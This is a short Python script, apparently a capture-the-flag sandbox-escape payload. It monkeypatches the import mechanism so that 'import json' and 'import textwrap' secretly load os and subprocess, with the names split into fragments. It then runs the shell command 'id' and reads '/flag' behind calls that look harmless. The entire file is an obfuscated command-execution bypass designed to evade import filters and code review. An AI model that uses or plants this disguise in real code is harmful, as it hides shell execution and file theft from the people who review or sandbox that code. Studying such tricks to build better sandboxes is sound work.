# Monkeypatches builtins.__import__ for two statements so that
# "import json" and "import textwrap" silently bind os and subprocess; the
# later calls look like json.system / textwrap.getoutput.
import builtins

_real = builtins.__import__
_alias = {'json': 'o' + 's', 'textwrap': 'sub' + 'process'}


def _imp(name, *a, **k):
    return _real(_alias.get(name, name), *a, **k)


builtins.__import__ = _imp
import json
import textwrap
builtins.__import__ = _real

json.system('id')
print(textwrap.getoutput('cat /flag'))
